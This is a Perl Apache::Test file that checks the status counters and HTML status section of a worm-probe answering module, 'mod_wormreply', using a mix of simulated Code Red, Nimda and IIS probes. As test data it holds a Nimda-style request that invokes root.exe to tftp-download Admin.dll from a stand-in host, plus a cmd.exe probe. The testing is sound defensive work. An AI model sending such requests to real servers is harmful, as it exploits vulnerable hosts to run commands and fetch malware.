# Counters in mod_status: a snapshot, a known mix of probes (per family,
# per action, exempt, rejected) and ordinary requests, exact deltas; and
# the HTML page's section.
use strict;
use warnings FATAL => 'all';
use FindBin;
use lib "$FindBin::Bin/lib";
use Apache::Test qw(-withtestmore);
use WormreplyTest qw(:all);

plan tests => 40, need_module 'wormreply', need_module 'status';

my @nimda = (nimda_scan())[0 .. 4];
my $tftp = 'GET /scripts/root.exe?/c+tftp -i 192.0.2.1 GET Admin.dll '
    . 'c:\\Admin.dll HTTP/1.0';

sub get11 {
    my($vh, $t, @h) = @_;
    return raw_get($vh, $t, proto => 'HTTP/1.1', headers =>
                   ['Host: x', 'Connection: close', @h]);
}

my $before = status_auto();
for my $k (qw(Requests Probes Exempt Rejected ProbeTimeUsec Probes-codered
              Probes-nimda Probes-iis Action-404 Action-403 Action-410
              Action-close Action-pass ProbesConfidence-certain
              ProbesConfidence-likely ProbesConfidence-recon
              NotifyingProbes HeldUncertain)) {
    ok exists $before->{"WormReply$k"}, "?auto has WormReply$k";
}

my $aoff = log_size('worm_access.log');
my $sent = 0;
# wr_on (404): 3 Code Red, 5 Nimda, 2 iis, 4 ordinary, 1 exempt
send_raw('wr_on', codered_request($_)), $sent++ for qw(N N X);
send_raw('wr_on', nimda_request($_)), $sent++ for @nimda;
get11('wr_on', $_), $sent++ for ('/NULL.printer', '/default.ida');
get11('wr_on', $_), $sent++
    for ('/index.html', '/index.html', '/no-such-page', '/scripts/jquery.min.js');
get11('wr_on', '/c/winnt/system32/cmd.exe?/c+dir',
      'X-Forwarded-For: 192.0.2.250');
$sent++;
# one Nimda probe per other action
send_raw($_, nimda_request($nimda[0])), $sent++
    for qw(wr_403 wr_410 wr_close wr_pass);
# one line httpd rejects itself
send_raw('wr_on', "$tftp\r\nHost: www\r\n\r\n");
$sent++;
# WormReply Off: nothing is counted
send_raw('wr_off', nimda_request($nimda[1])), $sent++;
send_raw('wr_off', codered_request('X')), $sent++;
get11('wr_off', '/index.html'), $sent++;

# every request is logged (so counted) before the snapshot is taken
my @lines = log_wait('worm_access.log', $aoff, []);
for (1 .. 100) {
    last if @lines >= $sent;
    select undef, undef, undef, 0.05;
    @lines = log_lines_since('worm_access.log', $aoff);
}
is scalar(@lines), $sent, "all $sent requests are in the access log";

my $d = counter_delta($before, status_auto());
is $d->{WormReplyRequests}, 19, 'requests seen: 15 on wr_on + 4 (not the '
    . 'rejected line, not WormReply Off, not server-status)';
is $d->{WormReplyProbes}, 15, 'probes: 10 + 1 rejected + 4 other actions';
is $d->{'WormReplyProbes-codered'}, 3, 'codered: 3';
is $d->{'WormReplyProbes-nimda'}, 10, 'nimda: 5 + 4 + the rejected one';
is $d->{'WormReplyProbes-iis'}, 2, 'iis: 2';
is $d->{'WormReplyProbesConfidence-certain'}, 13,
    'confidence certain: Code Red and Nimda, 13';
is $d->{'WormReplyProbesConfidence-likely'}, 2, 'confidence likely: iis, 2';
is $d->{'WormReplyProbesConfidence-recon'}, 0, 'confidence recon: none';
is $d->{WormReplyNotifyingProbes}, 13,
    'probes of the families that notify by themselves (certain): 13';
is $d->{WormReplyExempt}, 1, 'exempt: 1';
is $d->{WormReplyRejected}, 1, 'rejected: 1';
is $d->{'WormReplyAction-404'}, 10, 'answered 404: 10';
is $d->{'WormReplyAction-403'}, 1, 'answered 403: 1';
is $d->{'WormReplyAction-410'}, 1, 'answered 410: 1';
is $d->{'WormReplyAction-close'}, 1, 'answered close: 1';
is $d->{'WormReplyAction-pass'}, 1, 'answered pass: 1';
ok $d->{WormReplyProbeTimeUsec} > 0
    && $d->{WormReplyProbeTimeUsec} < 13 * 5_000_000,
    'time answering probes grew, within bounds';

# --- the HTML page
{
    my $auto = status_auto();
    my $r = status_html();
    like $r->{body} // '', qr{<h2>mod_wormreply</h2>},
        'the HTML status page has the mod_wormreply section';
    my($seen) = ($r->{body} // '') =~ m{requests seen</th><td>(\d+)<};
    is $seen, $auto->{WormReplyRequests},
        'its requests seen equal ?auto\'s WormReplyRequests';
    like $r->{body} // '',
        qr{<th align="left">probes</th><td>\d+</td>.*<td>&nbsp;&nbsp;nimda</td><td>\d+</td>.*answered close}s,
        'with the probes, a row per family and per action';
    like $r->{body} // '',
        qr{<td>&nbsp;&nbsp;by confidence</td><td>\d+ certain, \d+ likely, \d+ recon; \d+ of families that notify</td>},
        'and the probes by confidence';
}
